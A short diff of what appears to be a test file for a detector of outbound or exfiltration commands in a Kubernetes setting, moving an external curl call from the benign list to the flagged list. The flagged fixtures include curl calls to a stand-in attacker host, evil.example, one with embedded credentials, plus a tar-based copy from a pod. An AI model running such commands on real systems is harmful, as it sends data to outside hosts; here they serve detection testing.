@@ -43,6 +43,7 @@ FOUND: dict[str, list[Event]] = {
         shell("curl http://10.0.0.9/x"),
         shell("curl https://user:pass@evil.example/"),
         shell("curl http://localhost/ http://evil.example/x"),
+        run("curl", "https://api.example.com/healthz"),
     ],
     "kubectl_cp_from_pod": [
         run("tar", "cf", "-", "/x"),
@@ -163,7 +164,7 @@ SILENT: dict[str, list[Event]] = {
         run("curl", "-sf", "http://127.0.0.1:9090/-/ready"),
         run("curl", "http://localhost/x"),
         run("wget", "-qO-", "http://cart.shop.svc.cluster.local/x"),
-        run("curl", "https://api.example.com/healthz"),
+        run("curl", "http://10.0.0.7:8080/healthz"),
         shell("echo https://example.com"),
     ],
     "kubectl_cp_from_pod": [
